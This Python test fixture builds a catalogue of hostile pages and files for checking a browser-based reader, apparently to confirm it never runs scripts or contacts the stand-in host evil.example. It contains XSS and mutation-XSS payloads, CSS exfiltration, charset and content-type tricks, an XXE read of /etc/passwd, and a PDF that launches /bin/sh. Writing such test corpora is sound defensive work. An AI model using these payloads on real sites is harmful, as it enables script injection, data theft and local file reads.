"""Pages and files that mean harm, as they were sent: a comment above each kind.

`RUN` is what a script of theirs would do; whoever waits at `evil.example` would hear of it, too.
"""

import zlib

from tests.browser.chromium import EVIL
from tests.browser.reader import RAN

AT = f"http://{EVIL}"
RUN = f"console.log('{RAN}');alert(1);document.title='{RAN}';fetch('{AT}/ran')"
SCRIPT = f"<script>{RUN}</script>"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><circle r="9"/></svg>'
_WORDS = "<p>The ledger of the ferry was kept in green ink for nine years, and nobody read it.</p>" * 3
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010804000000b51c0c020000000b4944415478da6364f80f00010501012718e3660000000049454e44ae426082"
)


def _page(head: str = "", body: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><title>Page</title>{head}</head><body><h1>Ledger</h1>{_WORDS}{body}</body></html>".encode()


def _pdf() -> bytes:
    objects = (
        (
            "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example/p'\\))>>/AA<</WC<</S/URI/URI(http://evil.example/aa)>>>>>>"
        ),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/Launch/F(/bin/sh)>>>>>>",
    )
    made = b"%PDF-1.7\n"
    places = []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj{each}endobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    return (
        made
        + f"xref\n0 4\n0000000000 65535 f \n{table}trailer<</Size 4/Root 1 0 R>>\nstartxref\n{len(made)}\n%%EOF".encode()
    )


HTML = "text/html; charset=utf-8"
# Name, media type as it is sent (None: none is), body.
PAYLOADS: tuple[tuple[str, str | None, bytes], ...] = (
    # pages whose scripts are plain
    ("script", HTML, _page(SCRIPT, SCRIPT)),
    ("handlers", HTML, _page("", f'<img src=x onerror="{RUN}"><svg onload="{RUN}"><details open ontoggle="{RUN}">')),
    ("module", HTML, _page(f"<script type=module>{RUN}</script><script type=importmap>{{}}</script><script async src={AT}/a.js></script>")),
    ("json-ld", HTML, _page('<script type="application/ld+json">{"name":"</script>' + SCRIPT + '"}</script>')),
    ("worker", HTML, _page(f"<script>navigator.serviceWorker.register('/sw.js');new Worker('data:,x');{RUN}</script>")),
    ("speculation", HTML, _page(f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{AT}/spec"]}}],"prerender":[{{"urls":["{AT}/pre"]}}]}}</script>')),
    # pages that go, or send, elsewhere
    ("refresh", HTML, _page(f'<meta http-equiv=refresh content="0;url={AT}/refresh">')),
    ("refresh-script", HTML, _page(f'<meta http-equiv=refresh content="0;url=javascript:{RUN}"><meta http-equiv="Refresh" content="0, {AT}/r2">')),
    ("base", HTML, _page(f"<base href={AT}/ target=_top>", "<img src=i.png><a href=a>x</a>")),
    ("hints", HTML, _page("".join(f"<link rel={rel} href={AT}/{rel} as=script>" for rel in "preconnect dns-prefetch prefetch prerender preload modulepreload icon manifest stylesheet alternate".split()))),
    ("form", HTML, _page("", f"<form id=f action={AT}/form method=post><input name=a autofocus></form><button form=f formaction={AT}/f2>x</button><script>f.submit()</script>")),
    ("ping", HTML, _page("", f"<a href=/ ping={AT}/ping attributionsrc={AT}/attr>x</a><a href={AT}/dl download>y</a>")),
    ("top", HTML, _page(f"<script>top.location='{AT}/top';parent.document.title='{RAN}';opener&&(opener.location='{AT}/o')</script>")),
    ("named-window", HTML, _page("", f"<a id=a href={AT}/w target=_top>x</a><a href={AT}/w target=q>x</a><script>a.click();window.open('{AT}/open')</script>")),
    ("cookie", HTML, _page("<meta http-equiv=set-cookie content='a=b'><meta http-equiv=Content-Security-Policy content=\"default-src *\">")),
    # frames in all their forms
    ("frames", HTML, _page("", f'<iframe src={AT}/f></iframe><iframe srcdoc="{SCRIPT}"></iframe><iframe src="javascript:{RUN}"></iframe><iframe src="data:text/html,{SCRIPT}"></iframe>')),
    ("frameset", HTML, f'<html><head><title>Frames</title></head><frameset onload="{RUN}"><frame src={AT}/f1><frame src="javascript:{RUN}"></frameset></html>'.encode()),
    ("object", HTML, _page("", f'<object data={AT}/o></object><object data="data:text/html,{SCRIPT}"></object><embed src={AT}/e><applet archive={AT}/j></applet>')),
    ("portal", HTML, _page("", f"<portal src={AT}/portal></portal><fencedframe></fencedframe><webview src={AT}/w></webview>")),
    # styles that ask
    ("css", HTML, _page(f"<style>@import '{AT}/i.css';@import url({AT}/i2);body{{background:url({AT}/b);-moz-binding:url({AT}/m);width:expression({RUN})}}@font-face{{font-family:x;src:url({AT}/f)}}h1{{font-family:x}}</style>")),
    ("css-leak", HTML, _page(f'<style>input[value^="a"]{{background:url({AT}/leak-a)}}@property --x{{syntax:"<url>";inherits:true;initial-value:url({AT}/p)}}p{{background:image-set("{AT}/set" 1x);cursor:url({AT}/c),auto;content:url({AT}/k)}}</style>', "<input value=abc>")),
    ("css-layers", HTML, _page(f"<style>@import url({AT}/l) layer(a) supports(display:grid);@layer a{{p::before{{content:url({AT}/b)}}}}@container(min-width:1px){{p{{mask:url({AT}/m)}}}}p{{&:hover,&{{list-style:url({AT}/n);border-image-source:url({AT}/o)}}}}</style>")),
    ("style-attribute", HTML, _page("", f'<p style="background:u\\72l({AT}/a)">x</p><div style="--a:url({AT}/b);background:var(--a)">y</div><q style=\'shape-outside:url("{AT}/c");float:left\'>z</q>')),
    ("style-sheet", "text/css", f"@import '{AT}/a';p{{background:url({AT}/b)}}</style>{SCRIPT}".encode()),
    # markup that a browser reads in another way than a parser
    ("mxss-math", HTML, _page("", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">')),
    ("mxss-svg", HTML, _page("", f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">')),
    ("mxss-form", HTML, _page("", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>")),
    ("mxss-desc", HTML, _page("", f"<svg><desc><noscript><p title='</noscript><img src=x onerror={RUN}>'></desc></svg>")),
    ("mxss-annotation", HTML, _page("", f'<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror={RUN}>"></annotation-xml></math>')),
    ("select", HTML, _page("", f"<select><template><style></select><script>{RUN}</script></style></template></select><select><selectedcontent></select>")),
    ("noscript", HTML, _page(f'<noscript><style></noscript><img src=x onerror="{RUN}"></style></noscript>', f"<noscript><meta http-equiv=refresh content='0;url={AT}/n'></noscript>")),
    ("template", HTML, _page("", f"<template>{SCRIPT}</template><div><template shadowrootmode=open><style>:host{{background:url({AT}/h)}}</style>{SCRIPT}<slot></slot></template></div>")),
    ("comments", HTML, _page("", f"<!--><script>{RUN}</script>--><!-- --!><script>{RUN}</script><!-->" + SCRIPT)),
    ("cdata", HTML, _page("", f"<svg><![CDATA[</svg>{SCRIPT}]]></svg><![CDATA[>{SCRIPT}]]>")),
    ("plaintext", HTML, _page("", f"<listing>&lt;script&gt;{RUN}&lt;/script&gt;</listing><xmp></xmp><plaintext>{SCRIPT}")),
    ("null-bytes", HTML, _page("", f"<scr\0ipt>{RUN}</scr\0ipt><img \0src=x \0onerror={RUN}><a href='java\0script:{RUN}'>x</a>")),
    ("attributes", HTML, _page("", f"<p title='\"><script>{RUN}</script>' id=\"'><img src=x onerror={RUN}>\" class='`><svg onload={RUN}>'>x</p>")),
    ("clobber", HTML, _page("", "<form id=document><input name=querySelectorAll><img name=body><a id=location href=x></a></form><div id=main></div><div class=notes></div><a class=mark href=#main>1</a>")),
    ("custom", HTML, _page("", f"<x-y onfocus={RUN} tabindex=1 autofocus>x</x-y><p is=x-z popover id=p>q</p><button popovertarget=p commandfor=p command=show-popover onbeforetoggle={RUN}>z</button><dialog open oncancel={RUN}>d</dialog>")),
    ("animation", HTML, _page("<style>@keyframes k{from{color:red}}</style>", f'<p style="animation:k 1ms" onanimationstart="{RUN}" onanimationend="{RUN}">x</p><svg><a><animate attributeName=href values="javascript:{RUN}" /><text y=9>x</text></a></svg><marquee onstart={RUN}>m</marquee>')),
    ("media", HTML, _page("", f"<video src={AT}/v poster={AT}/p autoplay onerror={RUN}><source src={AT}/s onerror={RUN}><track src={AT}/t default></video><audio src={AT}/a autoplay controls></audio>")),
    ("images", HTML, _page("", f'<img src={AT}/a srcset="{AT}/b 2x" lowsrc={AT}/c><picture><source srcset={AT}/d></picture><input type=image src={AT}/e><image src={AT}/f><svg><image href={AT}/g /><feImage href={AT}/h /><use href="data:image/svg+xml,{_SVG}#x" /></svg>')),
    (
        "urls",
        HTML,
        _page("", "".join(f"<a href='{url}'>x</a><img src='{url}'>" for url in (f"java\tscript:{RUN}", f" \x01javascript:{RUN}", "vbscript:x", f"data:text/html,{RUN}", "blob:null/x", "filesystem:x", "view-source:x", "file:///etc/passwd", "intent://x", "ms-word:x", "//evil.example/r", "\\\\evil.example\\s"))),
    ),
    # character sets that change what is markup
    ("utf-7", "text/html; charset=utf-7", _page("<meta charset=utf-7>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")),
    ("utf-16", "text/html", _page("", SCRIPT).decode().encode("utf-16-le")),
    ("utf-16-bom", "text/html; charset=iso-8859-1", _page("", SCRIPT).decode().encode("utf-16")),
    ("iso-2022-jp", "text/html; charset=iso-2022-jp", _page("<meta charset=iso-2022-jp>", "<img alt='\x1b$B'><img src='x\x1b(B onerror=" + RUN + " '>")),
    ("hz", "text/html; charset=hz-gb-2312", _page("", f"~{{<script>~}}{RUN}</script>")),
    ("ebcdic", "text/html; charset=ibm037", _page("", SCRIPT).decode().encode("cp037")),
    ("no-charset", "text/html; charset=\"'><script>", _page("", SCRIPT + "\x80\xff")),
    ("torn-utf-8", HTML, b"<html><body><p>\xc3<img src='\xe2\x82' onerror=" + RUN.encode() + b">" + _WORDS.encode()),
    # what is called one thing, and is another
    ("as-text.html", "text/plain", _page("", SCRIPT)),
    ("as-image.png", "image/png", _page("", SCRIPT)),
    ("as-nothing", None, _page("", SCRIPT)),
    ("as-octets", "application/octet-stream", _page("", SCRIPT)),
    ("as-unknown", "application/x-unknown; a=b", _page("", SCRIPT)),
    ("as-multipart", "multipart/x-mixed-replace; boundary=x", b"--x\r\nContent-Type: text/html\r\n\r\n" + _page("", SCRIPT) + b"\r\n--x--"),
    ("as-script.js", "text/javascript", RUN.encode()),
    ("as-json", "application/json", f'{{"a":"{SCRIPT}"}}'.encode()),
    ("as-wasm", "application/wasm", b"\0asm\1\0\0\0"),
    ("as-manifest", "text/cache-manifest", b"CACHE MANIFEST\n/\n"),
    ("as-mhtml", "message/rfc822", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _page("", SCRIPT)),
    ("as-warc", "application/warc", b"WARC/1.1\r\n\r\n" + _page("", SCRIPT)),
    ("polyglot.gif", "image/gif", b"GIF89a/*\x00\x00\x00\x00*/=1;" + RUN.encode() + _page("", SCRIPT)),
    ("polyglot.png", "text/html", PNG + _page("", SCRIPT)),
    ("polyglot.pdf", "text/html", _pdf() + _page("", SCRIPT)),
    ("type-header", "text/html\r\n X-Folded: <script>", _page("", SCRIPT)),
    ("type-long", "text/html; " + "a=b; " * 2000, _page("", SCRIPT)),
    # other formats that can do something
    ("drawing.svg", "image/svg+xml", _SVG.encode()),
    ("entities.svg", "image/svg+xml", f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "{RUN}">]><svg xmlns="http://www.w3.org/2000/svg" onload="&y;"><text>&x;</text><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{AT}/x"/></foreignObject></svg>'.encode()),
    (
        "sheet.svg",
        "image/svg+xml",
        f'<?xml-stylesheet href="{AT}/s.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><style>@import "{AT}/c";</style><image xlink:href="{AT}/i"/><a xlink:href="javascript:{RUN}"><text y="9">x</text></a><set attributeName="onload" to="{RUN}"/></svg>'.encode(),
    ),
    ("packed.svgz", "image/svg+xml", zlib.compress(_SVG.encode(), wbits=31)),
    ("page.xhtml", "application/xhtml+xml", f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>X</title><script>{RUN}</script></head><body onload="{RUN}">{_WORDS}<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script></body></html>'.encode()),
    (
        "sheet.xml",
        "application/xml",
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script></xsl:template></xsl:stylesheet></x>'.encode(),
    ),
    ("feed.xml", "application/rss+xml", f"<rss><channel><title>&lt;script&gt;{RUN}&lt;/script&gt;</title><link>javascript:{RUN}</link></channel></rss>".encode()),
    ("script.pdf", "application/pdf", _pdf()),
    ("empty", HTML, b""),
    ("deep", HTML, b"<html><body>" + b"<div><b><table><tr><td>" * 4000 + SCRIPT.encode() + _WORDS.encode()),
    ("wide", HTML, _page("", "<p>" + "W" * 30_000 + "</p><pre>" + "=" * 30_000 + "</pre><table><tr>" + "<td>cell</td>" * 300 + "</tr></table>")),
    ("covering", HTML, _page("<style>body,p{position:fixed;inset:-99px;z-index:2147483647;font-size:900px;background:red}</style>", "<p>Your session has ended</p>")),
)  # fmt: skip
